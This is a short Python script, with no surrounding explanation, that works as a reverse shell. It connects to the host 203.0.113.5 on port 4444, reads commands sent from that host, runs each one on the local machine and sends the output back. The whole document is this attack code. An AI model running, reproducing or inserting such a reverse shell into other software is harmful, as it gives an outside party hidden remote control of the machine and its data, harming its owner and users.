import socket
import subprocess

line = socket.create_connection(("203.0.113.5", 4444))
while True:
    command = line.recv(4096).decode()
    line.sendall(subprocess.getoutput(command).encode())
